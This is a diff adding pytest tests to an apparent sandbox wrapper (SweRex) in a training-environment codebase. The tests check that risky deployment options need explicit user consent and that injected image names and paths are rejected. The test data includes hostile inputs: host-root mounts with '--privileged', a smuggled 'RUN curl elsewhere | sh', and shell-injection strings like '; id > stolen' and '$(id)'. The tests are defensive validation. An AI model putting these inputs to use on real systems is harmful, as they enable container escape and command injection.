@@ -20,15 +20,20 @@ from halfway.curriculum.boxes.container_shell import around
 from halfway.curriculum.boxes.swerex import SweRex, SweRexBox, _Image
 from halfway.curriculum.boxes.trees import Changes, unpack
 from halfway.curriculum.repositories.environment import Repository
+from halfway.curriculum.support.acceptance import VARIABLE
 from halfway.curriculum.support.errors import UserError
 
 needs_swerex = pytest.mark.skipif(importlib.util.find_spec("swerex") is None, reason="swe-rex is not installed")
-LOCAL = SweRex({"type": "local"})
+
+
+@pytest.fixture(autouse=True)
+def local_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(VARIABLE, "deployment:local")
 
 
 @needs_swerex
 def test_commands_files_and_changes(tmp_path: Path) -> None:
-    box = LOCAL.open(small_repository(tmp_path))
+    box = SweRex({"type": "local"}).open(small_repository(tmp_path))
     assert unpack(box.save()) == Changes()
     done = box.exec("cat; echo two >&2; exit 3", 20, b"one\n")
     assert (done.status, done.output, done.ended) == (3, "one\ntwo\n", "exit")
@@ -100,6 +105,45 @@ def test_an_episode_lives_in_one_box(tmp_path: Path, monkeypatch: pytest.MonkeyP
     results = environment.step([r.episode for r in results], [said("submit"), said("submit")])
     assert [result.success for result in results] == [True, False] and len(opened) == 4
     environment.close()
+
+
+@pytest.mark.parametrize(
+    ("deployment", "word"),
+    [
+        ({"type": "local"}, "local"),
+        ({"type": "modal"}, "modal"),
+        ({"type": "docker", "docker_args": ["--privileged", "-v", "/:/host"]}, "docker_args"),
+        ({"type": "docker", "exec_shell": ["/bin/sh", "-c"]}, "exec_shell"),
+        ({"type": "docker", "docker_internal_host": "http://elsewhere"}, "docker_internal_host"),
+        ({"type": "docker", "container_runtime": "./docker; id > stolen"}, "container_runtime"),
+        ({"type": "docker", "python_standalone_dir": "/root\nRUN curl elsewhere | sh"}, "python_standalone_dir"),
+        ({"type": "docker", "platform": "--volume=/:/host"}, "platform"),
+        ({"type": "docker", "an option of later versions": 1}, "an option of later versions"),
+    ],
+)
+def test_a_deployment_that_acts_outside_of_containers_needs_the_users_word(
+    deployment: dict[str, Any], word: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv(VARIABLE)
+    with pytest.raises(UserError, match=rf"swerex\.deployment\.{word}: .* set {VARIABLE}=deployment:{word} if you"):
+        SweRex(deployment)
+    monkeypatch.setenv(VARIABLE, f"deployment:{word}")
+    assert " " in word or SweRex(deployment).deployment == deployment
+    usual = {"type": "docker", "container_runtime": "podman", "python_standalone_dir": None, "startup_timeout": 60.0}
+    assert SweRex({**usual, "platform": "linux/amd64", "pull": "never"}).deployment["pull"] == "never"
+
+
+@pytest.mark.parametrize("image", ["--privileged", "-v/:/host", "a b", "a\nb", "a;id", "$(id)", "a'b", "x" * 300])
+def test_an_image_of_a_task_cannot_be_an_option_of_docker(image: str) -> None:
+    with pytest.raises(UserError, match=r"image: .*; name a container image"):
+        SweRex().open(Base(image=image))
+    for usual in ("python:3.11-slim", "ghcr.io/org/app_1@sha256:" + "0" * 64, "localhost:5000/a/b"):
+        SweRex().require(Base(image=usual))
+
+
+def test_a_path_of_a_recipe_cannot_end_the_line_around_a_command() -> None:
+    with pytest.raises(UserError, match=r"swerex\.path: "):
+        SweRex(path=('"; id #',))
 
 
 def test_what_is_missing_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
